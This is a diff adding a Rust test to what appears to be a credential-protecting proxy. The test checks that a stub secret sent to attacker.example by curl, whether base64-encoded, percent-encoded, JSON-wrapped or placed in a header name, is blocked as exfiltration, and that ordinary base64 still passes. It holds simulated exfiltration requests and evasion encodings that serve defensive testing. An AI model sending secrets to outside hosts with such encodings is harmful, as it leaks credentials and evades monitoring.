@@ -361,6 +361,55 @@ async fn stub_to_unbound_host_is_blocked_when_intercepting_all() {
     h.assert_logs_clean();
 }
 
+/// W09: `intercept = "all"`, the stub base64-encoded (and percent-encoded, and as a header name)
+/// toward an unbound host: 403 `stub-exfiltration`, nothing reaches the host.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn encoded_stubs_to_an_unbound_host_are_blocked() {
+    use base64::Engine as _;
+    let h = Harness::start(Alpn::Both, |c| c.intercept = Some("all".into())).await;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(ANTHROPIC_STUB);
+    let wrapped = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("{{\"k\":\"{ANTHROPIC_STUB}\"}}"));
+    let every_byte: String = ANTHROPIC_STUB.bytes().map(|b| format!("%{b:02X}")).collect();
+    for (header, url) in [
+        (format!("x-data: {b64}"), "https://attacker.example/echo".to_owned()),
+        (format!("x-data: {wrapped}"), "https://attacker.example/echo".to_owned()),
+        (
+            "x-data: plain".to_owned(),
+            format!("https://attacker.example/echo?d={every_byte}"),
+        ),
+        (
+            format!("x-{ANTHROPIC_STUB}: 1"),
+            "https://attacker.example/echo".to_owned(),
+        ),
+    ] {
+        let out = h.sidecar.curl().arg("-H").arg(&header).arg(&url).run().await.ok();
+        assert_eq!(out.status, 403, "{header} {url}: {}", out.body_text());
+        assert_eq!(
+            out.header("x-vault-blocked"),
+            Some("stub-exfiltration"),
+            "{header} {url}"
+        );
+    }
+    assert!(
+        h.upstream.requests_to("/echo").is_empty(),
+        "an encoded stub reached attacker.example: {:#?}",
+        h.upstream.requests()
+    );
+    // Ordinary base64 still goes through.
+    let ordinary = base64::engine::general_purpose::STANDARD.encode("nothing secret here");
+    let out = h
+        .sidecar
+        .curl()
+        .arg("-H")
+        .arg(format!("x-data: {ordinary}"))
+        .arg("https://attacker.example/echo")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 200, "{}", out.body_text());
+    h.assert_logs_clean();
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn audit_line_per_intercepted_request() {
     let h = Harness::default_setup().await;
